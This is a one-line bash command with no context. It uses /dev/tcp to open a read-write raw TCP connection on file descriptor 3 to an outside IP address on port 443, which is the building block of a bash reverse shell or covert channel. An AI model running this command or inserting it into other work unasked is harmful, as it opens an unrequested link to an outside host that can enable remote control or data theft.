bash -c "exec 3<>/dev/tcp/45.33.32.156/443"
